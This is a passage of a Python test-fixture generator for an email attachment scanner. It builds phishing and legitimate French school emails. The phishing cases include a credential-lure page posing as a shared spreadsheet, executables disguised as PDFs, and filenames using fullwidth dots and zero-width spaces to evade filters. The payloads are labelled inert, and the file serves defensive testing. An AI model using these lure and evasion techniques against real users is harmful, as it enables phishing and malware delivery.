  document.getElementById("email").value = decodeURIComponent(location.hash.slice(1));
  function send() { document.getElementById("f").submit(); return false; }
</script>
</body>
</html>
""".encode()
    paragraphs = ["Marie Dupont shared a file with you.", "",
                  "<b>Salaires_2026.xlsx</b>", "", "Open the attached document to view the file.", "",
                  "This email was generated automatically. Please do not reply."]
    msg = outlook_message(
        sender=addr("Microsoft 365 Sharing", "no-reply@sharepoint-notifications.example"), to=MARIE,
        subject="Marie Dupont shared \"Salaires_2026.xlsx\" with you", when=when,
        msgid="PR1P264MB3452D6E5F4A3B2C1D0E9F8A7B6C5@PR1P264MB3452.FRAP264.PROD.OUTLOOK.COM",
        tag="PR1P264MB3452D6E5F4A3B2C1D0E9F8A7B6C5PR1P264MB3452FRAP_", paragraphs=paragraphs,
        attachments=[outlook_attachment("text/html", "Salaires_2026.xlsx.html", page, when)])
    return msg.replace("Content-Language: fr-FR", "Content-Language: en-US")


@case("phish-att-elf-pdf", "attachment-disguised,attachment-program,external-sender")
def _():
    when = (2026, 11, 19, 8, 30, 12)
    elf = make_elf()
    att = part(['Content-Type: application/pdf; name="Note_de_service_2026-114.pdf"',
                'Content-Disposition: attachment; filename="Note_de_service_2026-114.pdf"',
                "Content-Transfer-Encoding: base64"], b64(elf, 72))
    text = ("Bonjour,\n\nVeuillez trouver ci-jointe la note de service n° 2026-114 relative à l'organisation des "
            "épreuves communes de décembre.\n\nCordialement,\n-- \nCellule juridique\n")
    return thunderbird_message(
        sender=addr("Cellule juridique", "juridique@notes-de-service.example"), to=PRINCIPAL,
        subject=ew("Note de service n° 2026-114"), when=when,
        msgid="3c2e1f0a-9b8d-4c7e-a6f5-e4d3c2b1a098@notes-de-service.example", text=text, attachments=[att],
        boundary="------------Lk4Wq9Zx2Rt7Yb1Nc6Vm3Hs0", ua="Mozilla/5.0 (X11; Linux x86_64; rv:128.0) "
                                                          "Gecko/20100101 Thunderbird/128.4.0")


@case("phish-att-desktop", "attachment-disguised,attachment-program,external-sender")
def _():
    when = (2026, 11, 19, 10, 1, 45)
    launcher = ("[Desktop Entry]\nVersion=1.0\nType=Application\nName=Convocation_CAPPEI.pdf\n"
                "Comment=Fixture de test AmiensMail : lanceur inerte\nIcon=application-pdf\n"
                "Exec=sh -c \"echo Fixture de test AmiensMail\"\nTerminal=false\n").encode()
    att = part(['Content-Type: application/x-desktop; name="Convocation_CAPPEI.pdf.desktop"',
                'Content-Disposition: attachment; filename="Convocation_CAPPEI.pdf.desktop"',
                "Content-Transfer-Encoding: base64"], b64(launcher, 72))
    text = ("Bonjour,\n\nVous trouverez ci-jointe votre convocation à l'épreuve du CAPPEI (session 2027).\n"
            "Merci de vous munir d'une pièce d'identité.\n\n-- \nCertification CAPPEI\n")
    return thunderbird_message(
        sender=addr("Certification CAPPEI", "cappei@certifications-enseignants.example"), to=MARIE,
        subject=ew("Convocation – épreuves du CAPPEI 2027"), when=when,
        msgid="9a8b7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c6d@certifications-enseignants.example", text=text,
        attachments=[att], boundary="------------Qp8Ve3Jn5Wd0Gt2Lx7Kc9Rb4")


@case("phish-att-shebang-no-ext", "attachment-disguised,attachment-program,external-sender")
def _():
    when = (2026, 11, 19, 14, 44, 9)
    script = ("#!/bin/sh\n# Fixture de test AmiensMail : script inerte (il n'affiche qu'un message).\n"
              "echo \"Fixture de test AmiensMail\"\n").encode()
    att = part(['Content-Type: application/pdf; name="Facture_0426"', "Content-Transfer-Encoding: base64",
                'Content-Disposition: attachment; filename="Facture_0426"'], b64(script))
    text = ("Bonjour,\n\nCi-joint la facture 0426 (maintenance du photocopieur, octobre 2026).\n"
            "Bonne réception,\n\nService facturation\n")
    b = "=-=-=_2xY7vQ9mL4kR8tN3pW6zB1cD5="
    return message([
        "From: " + addr("Service facturation", "facturation@maintenance-copieurs.example"), "To: " + GESTION,
        "Subject: Facture 0426", f"Date: {rfc822_date(when)}",
        "Message-ID: <20261119134409.2xY7vQ9mL4kR8tN3@maintenance-copieurs.example>", "MIME-Version: 1.0",
        f'Content-Type: multipart/mixed; boundary="{b}"', "X-Mailer: Sylpheed 3.7.0 (GTK+ 2.24.33; x86_64-pc-linux-gnu)"],
        multipart(b, [text_part(text, "UTF-8", "8bit"), att]))


@case("phish-att-fullwidth-dot", "attachment-deceptive-name,attachment-disguised,attachment-program,external-sender")
def _():
    when = (2026, 11, 20, 7, 35, 18)
    name = "Facture_telephonie_novembre\uff0epdf"  # FULLWIDTH FULL STOP: no real extension at all
    exe = make_pe(0x691EC0A7)
    att = part([f"Content-Type: application/pdf;\n name*=utf-8''{pct(name)}", "Content-Transfer-Encoding: base64",
                f"Content-Disposition: attachment;\n {p2231('filename', name)}"], b64(exe))
    text = ("Bonjour,\n\nVotre facture de téléphonie fixe et internet de novembre est disponible.\n"
            "Montant : 187,42 € TTC, prélevé le 5 décembre.\n\nVotre service client entreprises\n")
    return roundcube_message(
        sender=addr("Service client entreprises", "facturation@telecom-pro-factures.example"), to=GESTION,
        subject=ew("Votre facture de novembre est disponible"), when=when,
        msgid="2b4d6f8a0c1e3a5b7d9f1b3d5f7a9c1e@telecom-pro-factures.example", text=text, attachments=[att],
        boundary="=_b4d6f8a0c1e3a5b7d9f1b3d5f7a9c1e2", host="webmail.telecom-pro-factures.example")


@case("phish-att-zero-width-hta", "attachment-deceptive-name,attachment-program,external-sender")
def _():
    when = (2026, 11, 20, 16, 12, 40)
    name = "Rele\u200bve_absences_novembre.hta"  # a ZERO WIDTH SPACE breaks the word for name filters
    text = ("Bonjour,\n\nVeuillez trouver ci-joint le relevé des absences de novembre à contrôler avant "
            "l'envoi aux familles.\n\nCordialement,\n-- \nVie scolaire\n")
    return thunderbird_message(
        sender=addr("Vie scolaire", "viescolaire.absences80@laposte.net"), to=SECRETARIAT,
        subject=ew("Relevé des absences – novembre"), when=when,
        msgid="0d2f4b6c-8e1a-4c3e-9f5b-7d9e1f3a5c7e@laposte.net", text=text,
        attachments=[thunderbird_attachment("application/hta", name, INERT_HTA)],
        boundary="------------Hx6Tb2Wq8Nd4Lc0Vz7Kr3Pm9")


# --- Legitimate -------------------------------------------------------------------------------

@case("legit-att-dsden-convocation", "-")
def _():
    when = (2026, 11, 2, 14, 5, 33)
    pdf = simple_pdf("Convocation réunion des directeurs", "DSDEN de la Somme", "LibreOffice 7.6",
                     "Writer", [
                         (b"/F2", 14, "Direction des services départementaux de l'Éducation nationale de la Somme"),
                         "Division des écoles – 20 boulevard d'Alsace-Lorraine – 80063 Amiens cedex 9", "",
                         (b"/F2", 13, "CONVOCATION"), "",
                         "Mesdames et Messieurs les directrices et directeurs d'école,", "",
                         "Vous êtes convoqué(e)s à la réunion de circonscription qui se tiendra le",
                         "mardi 24 novembre 2026 de 9 h à 12 h, salle polyvalente de l'école Jules Ferry à Amiens.",
                         "", "Ordre du jour :", "  – évaluations nationales : calendrier et remontées ;",
                         "  – plan particulier de mise en sûreté (PPMS) ;", "  – questions diverses.", "",
                         "Cette réunion est inscrite au titre des 108 heures.", "",
                         "L'inspectrice de l'Éducation nationale,", "Circonscription d'Amiens 3"],
                     when=(2026, 11, 2, 11, 40, 0), fid_label="dsden-convocation")
    paragraphs = ["Mesdames et Messieurs les directrices et directeurs,", "",
                  "Vous trouverez ci-joint la convocation à la réunion de circonscription du mardi 24 novembre.",
                  "Merci d'en accuser réception auprès du secrétariat.", "",
                  "Bien cordialement,", "Le secrétariat de la circonscription d'Amiens 3"]
    att = part(['Content-Type: application/pdf; name=Convocation_reunion_directeurs_24-11-2026.pdf',
                "Content-Disposition: attachment; filename=Convocation_reunion_directeurs_24-11-2026.pdf",
                "Content-Transfer-Encoding: base64"], b64(pdf))
    return zimbra_message(
        sender=addr("Circonscription Amiens 3 – DSDEN de la Somme", "ce.0801456k@ac-amiens.fr"),
        to="Nathalie Roussel <ce.0800712c@ac-amiens.fr>",
        subject=ew("Convocation – réunion des directeurs du 24 novembre"), when=when,
        msgid="1728459011.5514920.1730552733012.JavaMail.zimbra@ac-amiens.fr",
        text="\n".join(paragraphs), html=zimbra_html(paragraphs), attachments=[att],
        tag="_5d2b7e90-1c4a-4f3e-8b6d-0a9c8e7f6d5c")


@case("legit-att-bulletin-paie-signe", "-")
def _():
    when = (2026, 11, 25, 10, 12, 44)
    pdf, _, _ = signed_pdf("Bulletin de salaire novembre 2026", [
        (b"/F2", 13, "BULLETIN DE SALAIRE – NOVEMBRE 2026"), "",
        "Employeur : Rectorat de l'académie d'Amiens – 20 boulevard d'Alsace-Lorraine, 80063 Amiens cedex 9",
        "Agent : LEROY Thomas – Assistant d'éducation – Collège Les Hortillonnages", "",
        "Traitement brut ...................................................... 1 801,80",
        "Indemnité de résidence .............................................     18,02",
        "CSG déductible .......................................................   -121,09",
        "CSG non déductible / CRDS .............................................   -51,60",
        "Cotisations sociales .................................................   -204,31", "",
        (b"/F2", 11, "NET À PAYER ........................................................ 1 442,82 €"), "",
        "Virement le 27/11/2026.",
        "Document signé électroniquement par le service de la paie du rectorat."],
        when=(2026, 11, 24, 18, 0, 0), signer_cn="Service de la paie - Rectorat d'Amiens",
        reason="Bulletin de salaire", location="Amiens", key_label="rectorat-amiens-paie-test")
    paragraphs = ["Bonjour,", "",
                  "Vous trouverez ci-joint votre bulletin de salaire de novembre 2026, signé électroniquement par le "
                  "service de la paie. Ce document est à garder sans limitation de durée.",
                  "Pour toute question, contactez le bureau des contractuels au 03 22 82 00 00.", "",
                  "Le service de la paie", "Rectorat de l'académie d'Amiens"]
    att = part(['Content-Type: application/pdf; name=Bulletin_salaire_2026-11_LEROY.pdf',
                "Content-Disposition: attachment; filename=Bulletin_salaire_2026-11_LEROY.pdf",
                "Content-Transfer-Encoding: base64"], b64(pdf))
    return zimbra_message(
        sender=addr("Service de la paie – Rectorat d'Amiens", "ce.paie@ac-amiens.fr"),
        to="Thomas Leroy <thomas.leroy1@ac-amiens.fr>", subject=ew("Bulletin de salaire – novembre 2026"),
        when=when, msgid="2039485766.5520113.1732525964410.JavaMail.zimbra@ac-amiens.fr",
        text="\n".join(paragraphs), html=None, attachments=[att], tag="_8e1f2a3b-4c5d-4e6f-8a9b-0c1d2e3f4a5b")


def student_odt(title, author, paragraphs, when):
    return make_odt(["# " + title] + paragraphs, title=title, creator=author, when=when)


@case("legit-att-travaux-eleves-zip", "-")
def _():
    when = (2026, 11, 6, 17, 48, 20)
    dt = (2026, 11, 6, 17, 40, 0)
    exposé = student_odt("Les énergies renouvelables", "Lucas M.", [
        "L'énergie solaire, l'éolien et l'hydraulique produisent de l'électricité sans brûler de combustible.",
        "Dans la Somme, les éoliennes sont nombreuses sur le plateau du Santerre."], (2026, 11, 5, 20, 14, 0))
    rapport = simple_pdf("Rapport énergie solaire", "Inès", "LibreOffice 7.6", "Writer", [
        (b"/F2", 14, "L'énergie solaire"), "", "Un panneau photovoltaïque transforme la lumière en électricité.",
        "Rendement : environ 20 %."], when=(2026, 11, 5, 21, 2, 0), fid_label="ines-rapport")
    schema = make_png(120, 90, lambda x, y: (255, 255, 255) if abs(x - 60) > 2 or y < 30 else (60, 60, 60))
    consignes = ("Exposés 4e B – énergies\r\nChaque groupe dépose son document (odt ou pdf) et ses images.\r\n"
                 "Pas de fichiers exécutables ni de liens raccourcis.\r\n").encode()
    zipped = make_zip([("Travaux_4eB/", None, dt, 0), ("Travaux_4eB/consignes.txt", consignes, dt, 8),
                       ("Travaux_4eB/Exposé_Lucas.M.odt", exposé, dt, 8),
                       ("Travaux_4eB/Inès_Rapport_énergie_solaire.pdf", rapport, dt, 8),
                       ("Travaux_4eB/images/", None, dt, 0),
                       ("Travaux_4eB/images/schéma_éolienne.png", schema, dt, 8)], system=3)
    text = ("Bonjour Marie,\n\nComme convenu, voici les travaux des 4e B sur les énergies (exposés et images), "
            "pour le projet commun avec la physique-chimie.\nJ'ai regroupé le tout dans une archive.\n\n"
            "Bonne soirée,\nJean-Marc\n")
    return thunderbird_message(
        sender="Jean-Marc Petit <jean-marc.petit@ac-amiens.fr>", to=MARIE,
        subject=ew("Travaux des 4e B – exposés sur les énergies"), when=when,
        msgid="4f7d1e2a-8c3b-4a5e-9d6f-0b1c2d3e4f5a@ac-amiens.fr", text=text,
        attachments=[thunderbird_attachment("application/zip", "Travaux_4eB_energies.zip", zipped)],
        boundary="------------Ab3Cd5Ef7Gh9Ij1Kl3Mn5Op7")


@case("legit-att-odt-colleague", "-")
def _():
    when = (2026, 11, 9, 12, 31, 2)
    odt = make_odt(["# Projet de sortie pédagogique – Samara", "Classes : 6e A et 6e C, jeudi 4 juin 2027.",
                    "Objectifs : la préhistoire en Picardie, les ateliers de fouille et de taille du silex.",
                    "Transport : autocar (devis demandé aux Cars Hourdequin).",
                    "Encadrement : quatre adultes, dont deux enseignants.",
                    "Budget prévisionnel : 14 € par élève, aide du foyer socio-éducatif à confirmer."],
                   title="Projet de sortie Samara", creator="Élodie Lefèvre", when=(2026, 11, 9, 12, 20, 0))
    text = ("Bonjour Marie,\n\nVoici le projet de sortie à Samara pour les 6e. Peux-tu le relire avant que je le "
            "présente au conseil pédagogique ?\nTes remarques sont bienvenues, directement dans le document.\n\n"
            "Merci !\nÉlodie\n")
    return thunderbird_message(
        sender="=?UTF-8?Q?=C3=89lodie_Lef=C3=A8vre?= <elodie.lefevre@ac-amiens.fr>", to=MARIE,
        subject=ew("Projet de sortie pédagogique – version à relire"), when=when,
        msgid="c1d2e3f4-a5b6-4c7d-8e9f-0a1b2c3d4e5f@ac-amiens.fr", text=text,
        attachments=[thunderbird_attachment("application/vnd.oasis.opendocument.text", "Projet_sortie_Samara.odt",
                                            odt)], boundary="------------Zy8Xw6Vu4Ts2Rq0Po8Nm6Lk4")


@case("legit-att-docx-mairie", "external-sender")
def _():
    when = (2026, 11, 10, 10, 2, 18)
    docx = make_docx(["**Convention de mise à disposition d'équipements sportifs",
                      "Entre la Ville d'Amiens, représentée par son maire, et le collège Les Hortillonnages, "
                      "représenté par son principal.",
                      "Article 1 – Objet : mise à disposition du gymnase Pierre de Coubertin pour l'enseignement de "
                      "l'EPS, année scolaire 2026-2027.",
                      "Article 2 – Créneaux : lundi et jeudi de 8 h à 12 h, mardi de 13 h 30 à 17 h.",
                      "Article 3 – Participation financière : 12 € de l'heure d'utilisation.",
                      "Fait à Amiens, le ____________"],
                     title="Convention gymnase 2026-2027", creator="Direction des sports", when=(2026, 11, 9, 15, 0, 0),
                     company="Ville d'Amiens")
    paragraphs = ["Monsieur le Principal,", "",
                  "Vous trouverez ci-joint la convention de mise à disposition du gymnase Pierre de Coubertin pour "
                  "l’année 2026-2027.",
                  "Je vous remercie de nous la retourner signée en deux exemplaires.", "",
                  "Bien cordialement,"]
    return outlook_message(
        sender=addr("Direction des sports – Ville d'Amiens", "sports@amiens.fr"), to=PRINCIPAL,
        subject=ew("Convention gymnase 2026-2027"), when=when,
        msgid="MRZP264MB2710A1B2C3D4E5F60718293A4B5C@MRZP264MB2710.FRAP264.PROD.OUTLOOK.COM",
        tag="MRZP264MB2710A1B2C3D4E5F60718293A4B5CMRZP264MB2710FRAP_", paragraphs=paragraphs,
        signature=["Direction des sports", "Ville d'Amiens – Place de l'Hôtel de Ville"],
        attachments=[outlook_attachment("application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                                        "Convention_gymnase_2026-2027.docx", docx, when)])


@case("legit-att-xlsx-budget", "-")
def _():
    when = (2026, 11, 12, 16, 20, 37)
    xlsx = make_xlsx([["Budget 2027 – proposition au conseil d'administration"], [],
                      ["Service", "Crédits 2026", "Proposition 2027"],
                      ["Activités pédagogiques (AP)", 18500, 19200],
                      ["Vie de l'élève (VE)", 6200, 6400],
                      ["Administration et logistique (ALO)", 92300, 95800],
                      ["Restauration et hébergement (SRH)", 154000, 158500],
                      ["Total", ("=", "SUM(B4:B7)", 271000), ("=", "SUM(C4:C7)", 279900)]],
                     sheet="Budget 2027", title="Budget 2027", creator="Gestionnaire", when=(2026, 11, 12, 15, 0, 0),
                     company="Collège Les Hortillonnages")
    paragraphs = ["Bonjour Monsieur le Principal,", "",
                  "Voici la proposition de budget 2027, pour la commission permanente du 26 novembre puis le conseil "
                  "d'administration.", "Les crédits du service ALO tiennent compte de la hausse des fluides.", "",
                  "Cordialement,", "Sylvie Carpentier, gestionnaire"]
    att = part(['Content-Type: application/vnd.openxmlformats-officedocument.spreadsheetml.sheet; '
                'name=Budget_2027_proposition_CA.xlsx',
                "Content-Disposition: attachment; filename=Budget_2027_proposition_CA.xlsx",
                "Content-Transfer-Encoding: base64"], b64(xlsx))
    return zimbra_message(
        sender=GESTION, to=PRINCIPAL, subject=ew("Budget 2027 – proposition pour le CA"), when=when,
        msgid="992817364.5533201.1731424837119.JavaMail.zimbra@ac-amiens.fr", text="\n".join(paragraphs),
        html=zimbra_html(paragraphs), attachments=[att], tag="_1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d")


@case("legit-att-ics-invitation", "-")
def _():
    when = (2026, 11, 13, 11, 2, 9)
    ics = ("BEGIN:VCALENDAR\r\nPRODID:Zimbra-Calendar-Provider\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\n"
           "BEGIN:VTIMEZONE\r\nTZID:Europe/Paris\r\nBEGIN:STANDARD\r\nDTSTART:16010101T030000\r\n"
           "TZOFFSETTO:+0100\r\nTZOFFSETFROM:+0200\r\nRRULE:FREQ=YEARLY;WKST=MO;INTERVAL=1;BYMONTH=10;BYDAY=-1SU\r\n"
           "TZNAME:CET\r\nEND:STANDARD\r\nBEGIN:DAYLIGHT\r\nDTSTART:16010101T020000\r\nTZOFFSETTO:+0200\r\n"
           "TZOFFSETFROM:+0100\r\nRRULE:FREQ=YEARLY;WKST=MO;INTERVAL=1;BYMONTH=3;BYDAY=-1SU\r\nTZNAME:CEST\r\n"
           "END:DAYLIGHT\r\nEND:VTIMEZONE\r\nBEGIN:VEVENT\r\n"
           "UID:6a1f3c2e-9b8d-4e7f-a6c5-d4e3f2a1b0c9\r\nSUMMARY:Conseil pédagogique\r\n"
           "ATTENDEE;CN=Marie Dupont;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE:\r\n"
           " mailto:marie.dupont@ac-amiens.fr\r\n"
           "ATTENDEE;CN=Jean-Marc Petit;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE:\r\n"
           " mailto:jean-marc.petit@ac-amiens.fr\r\n"
           "ORGANIZER;CN=Sophie Martin:mailto:sophie.martin@ac-amiens.fr\r\n"
           "DTSTART;TZID=\"Europe/Paris\":20261119T170000\r\nDTEND;TZID=\"Europe/Paris\":20261119T183000\r\n"
           "STATUS:CONFIRMED\r\nCLASS:PUBLIC\r\nX-MICROSOFT-CDO-INTENDEDSTATUS:BUSY\r\nTRANSP:OPAQUE\r\n"
           "LOCATION:Salle des professeurs\r\nDTSTAMP:20261113T100209Z\r\nSEQUENCE:0\r\n"
           "DESCRIPTION:Ordre du jour : projets de sorties du 2e trimestre\\, organisation\r\n"
           "  des épreuves communes\\, questions diverses.\r\n"
           "BEGIN:VALARM\r\nACTION:DISPLAY\r\nTRIGGER;RELATED=START:-PT15M\r\nDESCRIPTION:Reminder\r\nEND:VALARM\r\n"
           "END:VEVENT\r\nEND:VCALENDAR\r\n").encode()
    text = ("Les participants suivants ont été invités :\n\nMarie Dupont; Jean-Marc Petit\n\n"
            "Organisateur : Sophie Martin <sophie.martin@ac-amiens.fr>\nLieu : Salle des professeurs\n"
            "Heure : jeudi 19 novembre 2026, 17:00:00 - 18:30:00 GMT +01:00 Bruxelles, Copenhague, Madrid, Paris\n\n"
            "*~*~*~*~*~*~*~*~*~*\n\nOrdre du jour : projets de sorties du 2e trimestre, organisation des épreuves "
            "communes, questions diverses.\n")
    att = part(['Content-Type: text/calendar; charset=utf-8; method=REQUEST; name=invite.ics',
                "Content-Disposition: attachment; filename=invite.ics", "Content-Transfer-Encoding: base64"], b64(ics))
    return zimbra_message(
        sender="Sophie Martin <sophie.martin@ac-amiens.fr>", to="Marie Dupont <marie.dupont@ac-amiens.fr>, "
                                                               "Jean-Marc Petit <jean-marc.petit@ac-amiens.fr>",
        subject=ew("Nouveau rendez-vous : Conseil pédagogique"), when=when,
        msgid="1554433221.5540017.1731492129220.JavaMail.zimbra@ac-amiens.fr", text=text, html=None,
        attachments=[att], tag="_7c6b5a49-3827-4160-9f8e-7d6c5b4a3928")


@case("legit-att-scanner", "-")
def _():
    when = (2026, 11, 16, 8, 21, 30)
    level = text_page_level(20261116, 62, 88)
    jpeg = make_jpeg(62, 88, level, comment=b"Canon iR-ADV C5535")
    pdf = scanner_pdf(jpeg, 62 * 8, 88 * 8, when, "canon-scan-20261116")
    b = "------------_Part_20261116082130_Canon"
    att = part(['Content-Type: application/pdf; name="20261116082130.pdf"',
                'Content-Disposition: attachment; filename="20261116082130.pdf"', "Content-Transfer-Encoding: base64"],
               b64(pdf))
    return message([
        "From: copieur-sdp@clg-hortillonnages.ac-amiens.fr", "To: " + SECRETARIAT,
        "Subject: " + ew("Document numérisé"),
        f"Date: {rfc822_date(when)}", "Message-ID: <20261116082130.0001@clg-hortillonnages.ac-amiens.fr>",
        "MIME-Version: 1.0", "X-Mailer: Canon iR-ADV C5535", f'Content-Type: multipart/mixed; boundary="{b}"'],
        multipart(b, [text_part("Numérisé depuis un Canon iR-ADV C5535\n", "utf-8", "8bit"), att]))


@case("legit-att-pptx", "-")
def _():
    when = (2026, 11, 17, 19, 5, 12)
    pptx = make_pptx([("Réunion des parents de 6e", ["Collège Les Hortillonnages", "Jeudi 26 novembre 2026"]),
                      ("L'entrée au collège", ["Emploi du temps et carnet de liaison", "Pronote : notes et devoirs",
                                               "Le professeur principal, premier interlocuteur"]),
                      ("Calendrier", ["Conseils de classe : semaine du 7 décembre", "Voyage à Samara : 4 juin"])],
                     title="Réunion parents 6e", creator="Karim Benali", when=(2026, 11, 17, 18, 40, 0))
    paragraphs = ["Bonsoir à tous,", "",
                  "Voici le diaporama pour la réunion des parents de 6e de jeudi. N’hésitez pas à me dire s’il manque "
                  "quelque chose pour vos disciplines.", "", "Bonne soirée,", "Karim"]
    return outlook_message(
        sender="Karim Benali <karim.benali@ac-amiens.fr>", to=MARIE, cc="Jean-Marc Petit <jean-marc.petit@ac-amiens.fr>",
        subject=ew("Diaporama réunion parents 6e"), when=when,
        msgid="PR0P264MB2281F1E2D3C4B5A69788796A5B4C@PR0P264MB2281.FRAP264.PROD.OUTLOOK.COM",
        tag="PR0P264MB2281F1E2D3C4B5A69788796A5B4CPR0P264MB2281FRAP_", paragraphs=paragraphs,
        attachments=[outlook_attachment("application/vnd.openxmlformats-officedocument.presentationml.presentation",
                                        "Reunion_parents_6e.pptx", pptx, when)])


@case("legit-att-html-newsletter", "external-sender")
def _():
    when = (2026, 11, 17, 7, 30, 0)
    letter = """<!DOCTYPE html>
<html lang="fr">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<meta name="description" content="Lettre d'information de l'Atelier Canopé 80 - Amiens, novembre 2026">
<title>Atelier Canopé 80 – la lettre de novembre</title>
<style type="text/css">
  body { margin: 0; background: #f4f4f4; font-family: Arial, Helvetica, sans-serif; color: #222; }
  .conteneur { max-width: 640px; margin: 0 auto; background: #ffffff; }
  h1 { background: #e2001a; color: #fff; margin: 0; padding: 18px 24px; font-size: 22px; }
  h2 { color: #e2001a; font-size: 17px; border-bottom: 1px solid #ddd; padding-bottom: 4px; }
  .bloc { padding: 8px 24px 16px; }
  a { color: #0b5cad; }
  @media (max-width: 480px) { h1 { font-size: 18px; } }
</style>
</head>
<body>
<div class="conteneur">
<h1>Atelier Canopé 80 – Amiens · Novembre 2026</h1>
<div class="bloc">
<h2>Formations du mois</h2>
<ul>
<li>Mercredi 18/11, 14 h : « Créer des capsules vidéo avec ses élèves » (formation, sur inscription).</li>
<li>Mercredi 25/11, 14 h : club code – Scratch, Python et JavaScript au collège.</li>
<li>Mercredi 2/12, 14 h : l'éducation aux médias et à l'information en ligne, online et hors ligne.</li>
</ul>
<p>Inscriptions sur le site du réseau : <a href="https://www.reseau-canope.fr/atelier-somme">www.reseau-canope.fr/atelier-somme</a>.
Le formulaire d'inscription se trouve dans l'onglet « Agenda ».</p>
<h2>Ressource à la une</h2>
<p><img src="https://www.reseau-canope.fr/fileadmin/lettre/2026-11/une.jpg" width="592" height="200" alt="Éducation aux médias"></p>
<p>Le dossier « Informer et s'informer » propose des séquences clés en main pour le cycle 3 et le cycle 4.
<a href="https://www.reseau-canope.fr/notice/informer-et-sinformer.html">Consulter la ressource</a></p>
<h2>Horaires de l'atelier</h2>
<table cellpadding="4" style="border-collapse:collapse">
<tr><td>Lundi – vendredi</td><td>9 h – 12 h 30, 13 h 30 – 17 h</td></tr>
<tr><td>Mercredi</td><td>9 h – 18 h</td></tr>
</table>
<p style="font-size:12px;color:#777">Vous recevez cette lettre car vous êtes inscrit(e) à la liste de diffusion de
l'Atelier Canopé 80. <a href="https://www.reseau-canope.fr/desinscription?liste=atelier80">Se désinscrire</a></p>
</div>
</div>
</body>
</html>
"""
    html = ("<html><body><p>Bonjour,</p><p>Retrouvez en pièce jointe la lettre de novembre de l'Atelier Canopé 80 "
            "(à ouvrir dans votre navigateur), également consultable sur "
            "<a href=\"https://www.reseau-canope.fr/atelier-somme\">www.reseau-canope.fr/atelier-somme</a>.</p>"
            "<p>L'équipe de l'Atelier Canopé 80</p></body></html>\n")
    text = ("Bonjour,\n\nRetrouvez en pièce jointe la lettre de novembre de l'Atelier Canopé 80 (à ouvrir dans votre "
            "navigateur), également consultable sur https://www.reseau-canope.fr/atelier-somme\n\n"
            "L'équipe de l'Atelier Canopé 80\n")
    b_mixed = "----=_Part_4471023_118855370.1731825000412"
    b_alt = "----=_Part_4471024_1540021877.1731825000412"
    alt = part([f'Content-Type: multipart/alternative; boundary="{b_alt}"'],
               multipart(b_alt, [text_part(text, "UTF-8", "quoted-printable"),
                                 text_part(html, "UTF-8", "quoted-printable", "html")]))
    att = part(['Content-Type: text/html; charset=UTF-8; name="Lettre_Canope80_novembre_2026.html"',
                "Content-Transfer-Encoding: base64",
                'Content-Disposition: attachment; filename="Lettre_Canope80_novembre_2026.html"'], b64(letter.encode()))
    return message([
        "From: " + addr("Atelier Canopé 80", "atelier.amiens@reseau-canope.fr", "B"), "To: " + MARIE,
        "Subject: " + ew("La lettre de l'Atelier Canopé 80 – novembre 2026"), f"Date: {rfc822_date(when)}",
        "Message-ID: <1731825000412.4471023.atelier80@reseau-canope.fr>", "MIME-Version: 1.0",
        f'Content-Type: multipart/mixed; boundary="{b_mixed}"',
        "List-Unsubscribe: <https://www.reseau-canope.fr/desinscription?liste=atelier80>",
        "List-Unsubscribe-Post: List-Unsubscribe=One-Click", "X-Mailer: Sendinblue", "Precedence: bulk"],
        multipart(b_mixed, [alt, att]))


@case("legit-att-parent-photo-gmail", "external-sender")
def _():
    when = (2026, 11, 10, 18, 24, 51)

    def pixel(x, y):  # a photographed sheet of paper on a wooden table
        if 20 <= x < 140 and 10 <= y < 110:
            ink = (y - 20) % 9 == 0 and 30 <= x < 130 - (y % 23)
            return (70, 70, 90) if ink else (236 - y // 8, 234 - y // 8, 226 - y // 8)
        return (150 + (x * 7 + y * 3) % 20, 104 + (x * 5) % 14, 62 + (y * 3) % 10)

    png = make_png(160, 120, pixel)
    text = ("Bonjour Madame Dupont,\n\nJe vous envoie la photo de la fiche de sortie signée, Lina l'a oubliée à "
            "la maison ce matin. Elle vous donnera l'original demain.\n\nBonne soirée,\nSandrine Caron\n")
    html = ('<div dir="ltr">Bonjour Madame Dupont,<div><br></div><div>Je vous envoie la photo de la fiche de sortie '
            "signée, Lina l'a oubliée à la maison ce matin. Elle vous donnera l'original demain.</div><div><br></div>"
            "<div>Bonne soirée,</div><div>Sandrine Caron</div></div>\n")
    return gmail_message(
        sender="Sandrine Caron <sandrine.caron80@gmail.com>", to=MARIE, subject=ew("Fiche de sortie de Lina"),
        when=when, msgid="CAJx7mQ2vY9tB4nR8pL0wK3sF6hD1cE5gA2zU7oNq4Xr8mV0bTw@mail.gmail.com", text=text, html=html,
        attachments=[gmail_attachment("image/png", "Capture d’écran 2026-11-10 182244.png", png, "f_mhx0c2m30")],
        tag="a41d7e0612e5c9b3")


@case("legit-att-thunderbird-accents", "-")
def _():
    when = (2026, 11, 18, 20, 12, 5)
    pdf = simple_pdf("Compte-rendu du conseil d'école", "Nathalie Roussel", "LibreOffice 7.6", "Writer", [
        (b"/F2", 14, "École élémentaire Jules Ferry – Amiens"), (b"/F2", 13, "Compte-rendu du conseil d'école"),
        "Séance du 12 novembre 2026, 18 h – 19 h 45", "",
        "Présents : l'équipe enseignante, les représentants des parents d'élèves, M. l'adjoint au maire.",
        "1. Règlement intérieur : adopté à l'unanimité.",
        "2. Projets de l'année : classe de découverte des CM2, rencontres sportives USEP.",
        "3. Travaux : réfection de la cour prévue pendant les vacances d'hiver.",
        "4. Sécurité : exercice PPMS le 8 décembre.", "", "La directrice, Nathalie Roussel"],
        when=(2026, 11, 18, 19, 50, 0), fid_label="cr-conseil-ecole")
    name = "Compte-rendu conseil d'école.pdf"
    text = ("Bonsoir,\n\nVous trouverez ci-joint le compte-rendu du conseil d'école du 12 novembre, à afficher "
            "et à transmettre aux familles.\n\nBien cordialement,\n-- \nNathalie Roussel\nDirectrice – École "
            "élémentaire Jules Ferry\n")
    return thunderbird_message(
        sender="Nathalie Roussel <ce.0800712c@ac-amiens.fr>", to="ien.amiens3@ac-amiens.fr",
        cc=MARIE, subject=ew("Compte-rendu du conseil d'école du 12 novembre"), when=when,
